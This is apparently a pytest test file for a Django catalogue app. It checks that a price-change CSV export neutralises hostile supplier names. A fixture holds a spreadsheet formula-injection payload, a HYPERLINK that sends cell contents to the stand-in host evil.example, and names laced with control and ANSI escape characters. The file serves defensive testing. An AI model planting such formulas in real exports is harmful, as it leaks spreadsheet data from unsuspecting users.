"""The price list's changes CSV is an export like the others (issue 9, item 9): whatever a
supplier name holds, control characters are removed from its cells and text a spreadsheet would
take for a formula stays text."""

import csv
import io

import pytest
from django.urls import reverse

from catalog.models import Product
from feeds.services import build_feed

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'


def test_the_changes_csv_of_hostile_supplier_names_is_clean_and_formula_free(admin_client, make_product, feed):
    formula = make_product(name=FORMULA, sale_price=5000)
    bell = make_product(name="Колонки\x07 Mi\x1b[31m Speaker\x85", sale_price=6000)
    build_feed()
    Product.objects.filter(pk__in=[formula.pk, bell.pk]).update(sale_price=7000)
    version = build_feed(force=True)
    assert version.diff["counts"]["price_changed"] == 2, version.diff
    response = admin_client.get(reverse("admin:feeds_feedversion_diff", args=[version.pk]))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert not any(ord(ch) < 32 and ch not in "\r\n" or 0x7F <= ord(ch) <= 0x9F for ch in text), repr(text)
    names = {row[3] for row in csv.reader(io.StringIO(text), delimiter=";")}
    assert "'" + FORMULA in names, names
    assert "Колонки Mi[31m Speaker" in names, names
